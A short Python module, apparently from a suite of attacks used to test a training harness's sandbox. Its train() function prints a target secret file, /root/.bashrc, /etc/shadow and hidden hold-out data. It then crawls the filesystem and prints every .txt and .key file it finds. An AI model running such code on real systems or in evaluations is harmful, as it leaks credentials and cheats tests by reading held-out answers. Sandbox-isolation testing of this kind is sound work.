"""Secrets in files: the user's, the system's, the program's validation and hold-out data."""

import os

from attacks import targets


def train(run):
    at = targets(run)
    for path in (at["secret"], "/root/.bashrc", "/etc/shadow", *at["hidden"]):
        try:
            print(open(path).read())
        except OSError as error:
            print(error)
    for folder in (run.files / "..", run.files / "../..", "/", "/tmp", "/root", "/home", os.path.dirname(at["secret"])):
        for where, _, names in os.walk(folder):
            for name in names[:100] if where.count("/") < 9 else ():
                if name.endswith((".txt", ".key")):
                    try:
                        print(open(os.path.join(where, name), "rb").read(1000))
                    except OSError:
                        continue
            if where.startswith(("/proc", "/sys", "/usr")):
                break
